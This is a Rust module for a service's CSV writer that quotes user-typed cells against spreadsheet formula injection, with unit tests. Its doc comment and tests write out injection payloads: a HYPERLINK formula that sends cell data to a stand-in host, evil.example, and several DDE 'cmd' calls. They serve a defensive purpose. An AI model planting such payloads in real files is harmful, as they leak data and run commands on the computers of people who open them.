//! The one CSV writer of the service (ledger exports, the command line, the Fund's reports):
//! cells say whether they are text a user typed or a value the service wrote itself, and
//! only user text is neutralised against spreadsheet formula injection.
//!
//! A spreadsheet opening a CSV evaluates a cell that starts with `=`, `+`, `-` or `@` (and
//! some also after a leading tab or carriage return) as a formula: a donor named
//! `=HYPERLINK("http://evil.example/?x="&A1,"Click")` would run in a finance officer's
//! spreadsheet. OWASP's rule is applied: such a text cell gets a leading `'`, which
//! spreadsheets show as text and do not evaluate. The cell's type decides, never its
//! content: an amount such as `-1250.00` is a [`Cell::Value`] and stays a number that
//! sums; a reference typed as `-1250.00` is a [`Cell::Text`] and becomes `'-1250.00`.

use std::borrow::Cow;
use std::io::Write;

/// One cell of a CSV row.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Cell {
    /// Text from a user (names, references, titles): neutralised when written.
    Text(String),
    /// What the service writes itself (amounts, counts, dates, codes, ids, labels):
    /// written as it is.
    Value(String),
}

impl Cell {
    pub fn text(text: impl Into<String>) -> Cell {
        Cell::Text(text.into())
    }

    pub fn value(value: impl ToString) -> Cell {
        Cell::Value(value.to_string())
    }

    pub fn empty() -> Cell {
        Cell::Value(String::new())
    }

    /// The cell as the file holds it.
    pub fn written(&self) -> Cow<'_, str> {
        match self {
            Cell::Text(text) => neutralise(text),
            Cell::Value(value) => Cow::Borrowed(value),
        }
    }
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` with a leading `'` if a spreadsheet would read it as a formula.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_START) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A CSV writer (RFC 4180, UTF-8) that only takes rows of [`Cell`]s.
pub struct CsvWriter<W: Write>(csv::Writer<W>);

impl<W: Write> CsvWriter<W> {
    pub fn new(out: W) -> Self {
        CsvWriter(csv::Writer::from_writer(out))
    }

    /// A header row: column names are the service's own.
    pub fn header(&mut self, columns: &[&str]) -> Result<(), csv::Error> {
        self.0.write_record(columns)
    }

    pub fn row(&mut self, cells: &[Cell]) -> Result<(), csv::Error> {
        self.0
            .write_record(cells.iter().map(|cell| cell.written().into_owned()))
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.0.flush()
    }

    pub fn into_inner(self) -> Result<W, std::io::Error> {
        self.0.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_starting_a_formula_is_quoted_values_are_not() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(Cell::text(bad).written(), format!("'{bad}"));
        }
        assert_eq!(Cell::text("Sweden = donor").written(), "Sweden = donor");
        assert_eq!(Cell::text("").written(), "");
        assert_eq!(Cell::value("-1250.00").written(), "-1250.00");
    }

    #[test]
    fn the_writer_quotes_as_rfc_4180() {
        let mut w = CsvWriter::new(Vec::new());
        w.header(&["a", "b"]).unwrap();
        w.row(&[Cell::text("=1,\"2\""), Cell::value("-3.50")])
            .unwrap();
        let out = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(out, "a,b\n\"'=1,\"\"2\"\"\",-3.50\n");
    }
}
